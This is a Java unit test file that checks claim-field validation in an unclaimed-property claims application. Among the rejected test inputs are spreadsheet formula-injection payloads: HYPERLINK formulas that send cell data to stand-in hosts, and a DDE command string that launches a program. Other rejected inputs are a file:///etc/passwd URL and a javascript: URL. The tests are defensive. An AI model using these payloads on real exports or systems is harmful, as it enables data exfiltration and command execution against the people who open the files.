package org.claimdesk.domain;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Each claim field's one rule, at its edges, read from text as staff type it. */
class ClaimFieldTest {
    private static final LocalDate TODAY = LocalDate.of(2026, 11, 2);

    private static <T> T ok(ClaimField<T> field, String text) {
        Checked<T> checked = field.check(text, TODAY);
        assertThat(checked.violations()).as("%s = '%s'", field, text).isEmpty();
        return checked.value();
    }

    private static FieldViolation broken(ClaimField<?> field, String text) {
        Checked<?> checked = field.check(text, TODAY);
        assertThat(checked.isOk()).as("%s = '%s' should break the rule", field, text).isFalse();
        assertThat(checked.value()).isNull();
        FieldViolation violation = checked.violations().get(0);
        assertThat(violation.field()).isEqualTo(field.name());
        assertThat(violation.describe()).startsWith(field.name() + " ");
        assertThat(violation.message()).startsWith(field.label() + " ");
        return violation;
    }

    @Test
    void namesAreRequiredOneLineAndAtMostTwoHundredCharactersKeptExactly() {
        for (ClaimField<String> field : java.util.List.of(ClaimField.CLAIMANT_NAME, ClaimField.HOLDER_NAME)) {
            assertThat(ok(field, "  Zoë Ångström-Nakamura  ")).isEqualTo("Zoë Ångström-Nakamura");
            assertThat(ok(field, "山田 太郎")).isEqualTo("山田 太郎");
            assertThat(ok(field, "محمد عبد الله")).isEqualTo("محمد عبد الله");
            assertThat(ok(field, "x".repeat(200))).hasSize(200);
            // 200 characters outside the basic plane are 400 UTF-16 units: still 200 characters
            assertThat(ok(field, "𝒜".repeat(200))).hasSize(400);
            assertThat(broken(field, "x".repeat(201)).rule()).isEqualTo("must be at most 200 characters");
            assertThat(broken(field, "   ").rule()).isEqualTo("must not be blank");
            assertThat(broken(field, null).rule()).isEqualTo("must not be blank");
            assertThat(broken(field, "Maria\tGarcia").rule()).contains("one line");
            // what a spreadsheet opening an export would run: never taken in, so never written out
            for (String formula : new String[] {"=HYPERLINK(\"https://x.example/?d=\"&F2,\"Open\")", "+1+1", "-2+3",
                    "@SUM(A1)", " =cmd|' /C calc'!A0"}) {
                assertThat(broken(field, formula).rule()).as(formula)
                        .isEqualTo("must not start with =, +, - or @ (a spreadsheet would take it for a formula)");
            }
            assertThat(ok(field, "Smith = Jones Trust")).isEqualTo("Smith = Jones Trust");
            // an errors file's mark of such a value, come back unchanged
            assertThat(broken(field, "'=1+1").rule()).startsWith("must not start with an apostrophe and =, +, - or @");
            assertThat(ok(field, "'Ohana Trust")).isEqualTo("'Ohana Trust");
            // beyond ASCII's controls: C1, separators, format characters such as a right-to-left override, and a
            // lone half of a surrogate pair; the joiners some scripts need are taken
            for (String hidden : new String[] {"Maria\u0085Garcia", "Maria\u2028Garcia", "Maria \u202Eaicrag",
                    "Maria\u200BGarcia", "Maria \uD835Garcia", "\uFEFFMaria"}) {
                assertThat(broken(field, hidden).rule()).as(hidden).contains("control characters");
            }
            assertThat(ok(field, "\u0645\u200C\u0645")).hasSize(3);
        }
        assertThat(broken(ClaimField.CLAIMANT_ADDRESS, "=1+1").rule()).contains("formula");
        assertThat(ok(ClaimField.CLAIMANT_PHONE, "+1 916 555 0142")).as("a phone's own rule").isNotNull();
    }

    @Test
    void contactFieldsAreOptionalAndCheckedWhenGiven() {
        assertThat(ok(ClaimField.CLAIMANT_EMAIL, "")).isNull();
        assertThat(ok(ClaimField.CLAIMANT_EMAIL, " maria.garcia@example.org ")).isEqualTo("maria.garcia@example.org");
        assertThat(ok(ClaimField.CLAIMANT_EMAIL, "zoë@bücher.de")).isEqualTo("zoë@bücher.de");
        for (String bad : new String[] {"maria", "maria@", "@example.org", "maria@example", "a b@example.org",
                "a@b@example.org", "maria@example.", "x".repeat(250) + "@example.org",
                "=HYPERLINK(\"http://ev.il/?\"&J2,\"x@y.z\")", "maria@exa_mple.org"}) {
            assertThat(broken(ClaimField.CLAIMANT_EMAIL, bad).rule()).as(bad).contains("email address");
        }
        for (String hidden : new String[] {"ma\u202Eria@example.org", "ma\u2028ria@example.org",
                "ma\u0085ria@example.org", "ma\uD835ria@example.org"}) {
            assertThat(broken(ClaimField.CLAIMANT_EMAIL, hidden).rule()).as(hidden).contains("email address");
        }
        for (String formula : new String[] {"=1+maria@example.org", "+maria@example.org", "-maria@example.org"}) {
            assertThat(broken(ClaimField.CLAIMANT_EMAIL, formula).rule()).as(formula).contains("formula");
        }
        assertThat(ok(ClaimField.CLAIMANT_EMAIL, "o'brien+claims@mail-1.example.org"))
                .isEqualTo("o'brien+claims@mail-1.example.org");

        assertThat(ok(ClaimField.CLAIMANT_PHONE, null)).isNull();
        assertThat(ok(ClaimField.CLAIMANT_PHONE, "(916) 555-0142")).isEqualTo("(916) 555-0142");
        assertThat(ok(ClaimField.CLAIMANT_PHONE, "+1 916.555.0142")).isEqualTo("+1 916.555.0142");
        assertThat(ok(ClaimField.CLAIMANT_PHONE, "5550142")).isEqualTo("5550142");
        assertThat(ok(ClaimField.CLAIMANT_PHONE, "123456789012345")).hasSize(15);
        assertThat(broken(ClaimField.CLAIMANT_PHONE, "555014").rule()).contains("7 to 15 digits");
        assertThat(broken(ClaimField.CLAIMANT_PHONE, "1234567890123456").rule()).contains("7 to 15 digits");
        assertThat(broken(ClaimField.CLAIMANT_PHONE, "916-555-CALL").rule()).contains("7 to 15 digits");
        assertThat(broken(ClaimField.CLAIMANT_PHONE, "1+916 555 0142").rule()).contains("7 to 15 digits");

        assertThat(ok(ClaimField.CLAIMANT_ADDRESS, "  ")).isNull();
        assertThat(ok(ClaimField.CLAIMANT_ADDRESS, "1200 Capitol Mall, Sacramento, CA 95814"))
                .isEqualTo("1200 Capitol Mall, Sacramento, CA 95814");
        assertThat(ok(ClaimField.CLAIMANT_ADDRESS, "a".repeat(300))).hasSize(300);
        assertThat(broken(ClaimField.CLAIMANT_ADDRESS, "a".repeat(301)).rule()).contains("at most 300");
        assertThat(broken(ClaimField.CLAIMANT_ADDRESS, "1200 Capitol Mall\nSacramento").rule()).contains("one line");
    }

    @Test
    void claimAndPropertyTypesAreTheKnownCodes() {
        assertThat(ok(ClaimField.CLAIM_TYPE, "owner")).isEqualTo(ClaimType.OWNER);
        assertThat(ok(ClaimField.CLAIM_TYPE, "on-behalf")).isEqualTo(ClaimType.ON_BEHALF);
        assertThat(ok(ClaimField.CLAIM_TYPE, "On Behalf")).isEqualTo(ClaimType.ON_BEHALF);
        assertThat(broken(ClaimField.CLAIM_TYPE, "finder").rule())
                .isEqualTo("must be one of OWNER, HEIR, ON_BEHALF, BUSINESS");
        assertThat(broken(ClaimField.CLAIM_TYPE, "").rule()).isEqualTo("must not be blank");

        assertThat(ok(ClaimField.PROPERTY_TYPE, "ac02")).isEqualTo(PropertyType.AC02);
        assertThat(ok(ClaimField.PROPERTY_TYPE, "SC")).isEqualTo(PropertyType.SC);
        assertThat(ok(ClaimField.PROPERTY_TYPE, "SD01")).isEqualTo(PropertyType.SD01);
        assertThat(broken(ClaimField.PROPERTY_TYPE, "AC99").rule()).startsWith("must be a NAUPA property type code: AC01");
        assertThat(broken(ClaimField.PROPERTY_TYPE, "checking").rule()).contains("SD01");
    }

    @Test
    void holderAndPropertyIds() {
        assertThat(ok(ClaimField.HOLDER_ID, "HLD-100200")).isEqualTo("HLD-100200");
        assertThat(ok(ClaimField.HOLDER_ID, "hld-100200")).isEqualTo("HLD-100200");
        // the state's contract takes HLD- and six digits: anything else would be refused for good once submitted
        for (String other : java.util.List.of("HLD-1", "HLD-1002000", "HLD100200", "HLD 100200", "ACME-7", "X")) {
            assertThat(broken(ClaimField.HOLDER_ID, other).rule()).as(other).contains("HLD- and six digits");
        }
        assertThat(broken(ClaimField.HOLDER_ID, "").rule()).isEqualTo("must not be blank");

        assertThat(ok(ClaimField.STATE_PROPERTY_ID, "1234567")).isEqualTo("1234567");
        assertThat(ok(ClaimField.STATE_PROPERTY_ID, " 123456789 ")).isEqualTo("123456789");
        for (String bad : new String[] {"123456", "1234567890", "12345a7", "1234 567", "-1234567"}) {
            assertThat(broken(ClaimField.STATE_PROPERTY_ID, bad).rule()).isEqualTo("must be 7 to 9 digits");
        }
    }

    @Test
    void amountsAreWholeCentsFromOneCentToTenMillionDollars() {
        // the state's contract takes no claim of nothing: refused at entry, not by the state after submission
        assertThat(broken(ClaimField.AMOUNT_CENTS, "0").rule())
                .isEqualTo("must be from 1 to 1000000000 cents ($0.01 to $10,000,000.00)");
        assertThat(ok(ClaimField.AMOUNT_CENTS, "1")).isEqualTo(1L);
        assertThat(ok(ClaimField.AMOUNT_CENTS, "500")).isEqualTo(500L);
        assertThat(ok(ClaimField.AMOUNT_CENTS, "25000000")).isEqualTo(25_000_000L);
        assertThat(ok(ClaimField.AMOUNT_CENTS, "1000000000")).isEqualTo(ClaimField.MAX_AMOUNT_CENTS);
        assertThat(broken(ClaimField.AMOUNT_CENTS, "1000000001").rule())
                .isEqualTo("must be from 1 to 1000000000 cents ($0.01 to $10,000,000.00)");
        assertThat(broken(ClaimField.AMOUNT_CENTS, "-1").rule()).startsWith("must be from 1");
        for (String bad : new String[] {"12.50", "$125", "1,000", "12e3", "abc", "99999999999999999999"}) {
            assertThat(broken(ClaimField.AMOUNT_CENTS, bad).rule()).startsWith("must be a whole number of cents");
        }
    }

    @Test
    void jurisdictionsAreUsStateCodes() {
        assertThat(ok(ClaimField.JURISDICTION, "ca")).isEqualTo("CA");
        assertThat(ok(ClaimField.JURISDICTION, "DC")).isEqualTo("DC");
        assertThat(ok(ClaimField.JURISDICTION, "PR")).isEqualTo("PR");
        // the territories the state's contract takes as well
        assertThat(ok(ClaimField.JURISDICTION, "gu")).isEqualTo("GU");
        assertThat(ClaimField.JURISDICTIONS).hasSize(56).contains("AS", "MP", "VI")
                .isEqualTo(org.claimdesk.delivery.StateRules.JURISDICTIONS);
        for (String bad : new String[] {"XX", "C", "CAL", "California", "ON"}) {
            assertThat(broken(ClaimField.JURISDICTION, bad).rule()).contains("two-letter US state code");
        }
    }

    @Test
    void filingDatesAreIsoDatesNotInTheFuture() {
        assertThat(ok(ClaimField.FILED_ON, "2026-11-02")).isEqualTo(TODAY);
        assertThat(ok(ClaimField.FILED_ON, "1900-01-01")).isEqualTo(LocalDate.of(1900, 1, 1));
        assertThat(broken(ClaimField.FILED_ON, "2026-11-03").rule())
                .isEqualTo("must not be in the future (today is 2026-11-02)");
        assertThat(broken(ClaimField.FILED_ON, "1899-12-31").rule()).isEqualTo("must not be before 1900-01-01");
        // as a spreadsheet saves an ISO date back: month/day/year
        assertThat(ok(ClaimField.FILED_ON, "11/02/2026")).isEqualTo(TODAY);
        assertThat(ok(ClaimField.FILED_ON, "3/1/2026")).isEqualTo(LocalDate.of(2026, 3, 1));
        assertThat(broken(ClaimField.FILED_ON, "11/03/2026").rule()).startsWith("must not be in the future");
        for (String bad : new String[] {"2026-02-30", "2026-1-5", "yesterday", "2/30/2026", "13/1/2026", "3/1/26",
                "03.01.2026", "1/2/3/2026"}) {
            assertThat(broken(ClaimField.FILED_ON, bad).rule()).as(bad).isEqualTo("must be a date written YYYY-MM-DD,"
                    + " or month/day/year as a spreadsheet writes it (e.g. 2026-03-01 or 3/1/2026)");
        }
    }

    @Test
    void taxIdsAreSsnItinOrEinAndNeverEchoed() {
        assertThat(ok(ClaimField.TAX_ID, "123-00-4567")).isEqualTo("123-00-4567");
        assertThat(ok(ClaimField.TAX_ID, "912-70-1234")).isEqualTo("912-70-1234");
        assertThat(ok(ClaimField.TAX_ID, "94-1234567")).isEqualTo("94-1234567");
        assertThat(ok(ClaimField.TAX_ID, "123004567")).isEqualTo("123-00-4567");
        for (String bad : new String[] {"123-00-456", "12300456", "1234-00-4567", "123 00 4567", "ABC-00-4567",
                "941-234567"}) {
            FieldViolation violation = broken(ClaimField.TAX_ID, bad);
            assertThat(violation.rule()).contains("123-45-6789").contains("12-3456789");
            assertThat(violation.describe()).doesNotContain(bad);
        }
        assertThat(ClaimField.TAX_ID.personal()).isTrue();
        assertThat(ClaimField.TAX_ID.shown("123-00-4567")).isEqualTo("***-**-4567");
        assertThat(ClaimField.HOLDER_ID.shown("HLD-1")).isEqualTo("HLD-1");
    }

    /** Nine bare digits are the EIN on a business claim, whether the type is typed beside them or the claim's. */
    @Test
    void nineBareDigitsAreTheEinOfABusinessClaimAndAnSsnOnAnyOther() {
        Map<String, String> raw = new LinkedHashMap<>();
        raw.put("taxId", " 941234567 ");
        raw.put("claimType", "business");
        assertThat(ClaimField.parseAll(raw, TODAY).values().get(ClaimField.TAX_ID)).isEqualTo("94-1234567");
        raw.put("claimType", "owner");
        assertThat(ClaimField.parseAll(raw, TODAY, ClaimType.BUSINESS).values().get(ClaimField.TAX_ID))
                .as("the type typed beside it wins").isEqualTo("941-23-4567");
        Map<String, String> taxIdAlone = Map.of("taxId", "941234567");
        assertThat(ClaimField.parseAll(taxIdAlone, TODAY, ClaimType.BUSINESS).values().get(ClaimField.TAX_ID))
                .isEqualTo("94-1234567");
        for (ClaimType other : new ClaimType[] {ClaimType.OWNER, ClaimType.HEIR, ClaimType.ON_BEHALF, null}) {
            assertThat(ClaimField.parseAll(taxIdAlone, TODAY, other).values().get(ClaimField.TAX_ID)).as("%s", other)
                    .isEqualTo("941-23-4567");
        }
        // written with its dashes, a tax id stays as written whatever the claim's type (a sole proprietor's SSN)
        assertThat(ClaimField.parseAll(Map.of("taxId", "123-00-4567"), TODAY, ClaimType.BUSINESS).values()
                .get(ClaimField.TAX_ID)).isEqualTo("123-00-4567");
        assertThat(ClaimField.parseAll(Map.of("taxId", "94-1234567"), TODAY, ClaimType.OWNER).values()
                .get(ClaimField.TAX_ID)).isEqualTo("94-1234567");
        assertThat(ClaimField.TAX_ID.compared("94-1234567")).isEqualTo(ClaimField.TAX_ID.compared("941-23-4567"));
        assertThat(ClaimField.HOLDER_ID.compared("HLD-1")).isEqualTo("HLD-1");
    }

    @Test
    void severalFieldsAreReadByNameWithEveryBrokenRuleReported() {
        Map<String, String> raw = new LinkedHashMap<>();
        raw.put("amountCents", "15000");
        raw.put("HOLDERID", "HLD-200300");
        raw.put("statePropertyId", "12");
        raw.put("colour", "blue");
        raw.put("filedOn", "2030-01-01");
        ClaimField.Parsed parsed = ClaimField.parseAll(raw, TODAY);
        assertThat(parsed.values()).containsOnlyKeys(ClaimField.AMOUNT_CENTS, ClaimField.HOLDER_ID);
        assertThat(parsed.values().get(ClaimField.AMOUNT_CENTS)).isEqualTo(15_000L);
        assertThat(parsed.violations()).extracting(FieldViolation::field)
                .containsExactly("statePropertyId", "colour", "filedOn");
        assertThat(parsed.violations().get(1).describe()).startsWith("colour is not a claim field; the fields are claimantName");

        InvalidFieldsException e = new InvalidFieldsException(parsed.violations());
        assertThat(e.getMessage()).isEqualTo("statePropertyId must be 7 to 9 digits; colour is not a claim field;"
                + " the fields are " + ClaimField.names() + "; filedOn must not be in the future (today is 2026-11-02)");
        assertThatThrownBy(() -> new InvalidFieldsException(java.util.List.of())).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void aWholeClaimIsCheckedByTheSameRules() {
        Claim good = claim("12345678", "HLD-100001", "Maria Garcia", "123-00-4567", 12_345, LocalDate.of(2026, 3, 1));
        assertThat(ClaimField.violations(good, TODAY)).isEmpty();

        Claim bad = claim("12", null, " ", "12", ClaimField.MAX_AMOUNT_CENTS + 1, LocalDate.of(2027, 1, 1));
        assertThat(ClaimField.violations(bad, TODAY)).extracting(FieldViolation::describe).containsExactly(
                "claimantName must not be blank",
                "holderId must not be blank",
                "statePropertyId must be 7 to 9 digits",
                "amountCents must be from 1 to 1000000000 cents ($0.01 to $10,000,000.00)",
                "filedOn must not be in the future (today is 2026-11-02)",
                "taxId must be an SSN or ITIN written 123-45-6789 or an EIN written 12-3456789");
    }

    @Test
    void everyFieldIsNamedAsTheJsonNamesIt() {
        assertThat(ClaimField.all()).extracting(ClaimField::name).containsExactly("claimantName", "claimantEmail",
                "claimantPhone", "claimantAddress", "claimType", "holderName", "holderId", "statePropertyId",
                "propertyType", "amountCents", "jurisdiction", "filedOn", "taxId");
        assertThat(ClaimField.byName("amountcents")).contains(ClaimField.AMOUNT_CENTS);
        assertThat(ClaimField.byName("nope")).isEmpty();
        Claim good = claim("12345678", "HLD-100001", "Maria Garcia", "123-00-4567", 12_345, LocalDate.of(2026, 3, 1));
        for (ClaimField<?> field : ClaimField.all()) {
            // what the editor shows reads back to the same value
            assertThat(field.check(field.textOf(good), TODAY).value()).as(field.name()).isEqualTo(field.valueOf(good));
        }
    }

    @Test
    void editingIsAllowedBeforeTheStateHasTheClaimAndWhenItAsksForMore() {
        for (ClaimStatus status : ClaimStatus.values()) {
            boolean editable = switch (status) {
                case IDENTITY_PENDING, EVIDENCE_PENDING, READY_FOR_SUBMISSION, SUBMITTING, NEEDS_INFO -> true;
                default -> false;
            };
            assertThat(status.editRefusal(false).isEmpty()).as(status.name()).isEqualTo(editable);
            // a pending submission keeps a SUBMITTING claim's data; no other status has one to wait for
            assertThat(status.editRefusal(true).isEmpty()).as(status.name() + ", submission pending")
                    .isEqualTo(editable && status != ClaimStatus.SUBMITTING);
        }
        assertThat(ClaimStatus.SUBMITTING.editRefusal(true)).contains(ClaimStatus.SUBMISSION_PENDING_REFUSAL);
        assertThat(ClaimStatus.PAID.editRefusal(false)).contains("the claim is paid; its data is final");
        assertThat(ClaimStatus.REJECTED.editRefusal(false).orElseThrow()).contains("EVIDENCE_PENDING");
    }

    @Test
    void evidenceRules() {
        assertThat(EvidenceRules.kind(" Address ").value()).isEqualTo(EvidenceKind.ADDRESS);
        assertThat(EvidenceRules.kind("photo").violations().get(0).describe())
                .isEqualTo("kind must be one of identity, address, ownership, heirship, business");
        assertThat(EvidenceRules.url("https://records.example.gov/deed/123?x=1#p2").isOk()).isTrue();
        assertThat(EvidenceRules.url("HTTP://example.org").isOk()).isTrue();
        for (String bad : new String[] {"ftp://example.org/a", "file:///etc/passwd", "javascript:alert(1)",
                "https://", "https://user:pw@example.org/", "example.org/deed", "https://exa mple.org",
                "https://example.org/" + "a".repeat(2000)}) {
            assertThat(EvidenceRules.url(bad).isOk()).as(bad).isFalse();
        }
        assertThat(EvidenceRules.url(" ").violations().get(0).describe()).isEqualTo("url must not be blank");
        assertThat(EvidenceRules.title(null, "lease.pdf").value()).isEqualTo("lease.pdf");
        assertThat(EvidenceRules.title("  Lease 2024 ", "lease.pdf").value()).isEqualTo("Lease 2024");
        assertThat(EvidenceRules.title("x".repeat(201), "f").isOk()).isFalse();
        assertThat(EvidenceRules.title(null, "https://e.org/" + "a".repeat(300)).value()).hasSize(200);
        assertThat(EvidenceRules.fileSize(EvidenceRules.MAX_FILE_BYTES)).isNull();
        assertThat(EvidenceRules.fileSize(EvidenceRules.MAX_FILE_BYTES + 1).describe())
                .isEqualTo("file must be at most 25 MB (this one is 25.0 MB)");
        assertThat(EvidenceRules.size(1)).isEqualTo("1 byte");
        assertThat(EvidenceRules.size(812)).isEqualTo("812 bytes");
        assertThat(EvidenceRules.size(14_541)).isEqualTo("14.2 KB");
        assertThat(EvidenceRules.size(3_250_000)).isEqualTo("3.1 MB");
    }

    private static Claim claim(String propertyId, String holderId, String claimant, String taxId, long cents,
            LocalDate filedOn) {
        return new Claim(1, "UPC-2026-000001", "CA", propertyId, "Wells Fargo Bank NA", holderId, PropertyType.AC01,
                ClaimType.OWNER, claimant, taxId, cents, ClaimStatus.IDENTITY_PENDING, null, filedOn, null, 0,
                java.time.Instant.EPOCH, java.time.Instant.EPOCH);
    }

    /** The fields an export guards against formulas are those that refuse one: nothing that could import is changed. */
    @Test
    void theFieldsThatRefuseFormulasAreTheOnesSaidTo() {
        for (ClaimField<?> field : ClaimField.all()) {
            boolean refused = field.check("=1+a@example.org", TODAY).violations().stream()
                    .anyMatch(v -> v.rule().contains("formula"));
            assertThat(field.refusesFormulas()).as(field.name()).isEqualTo(refused);
        }
        assertThat(ClaimField.all()).filteredOn(ClaimField::refusesFormulas).hasSize(4);
    }
}
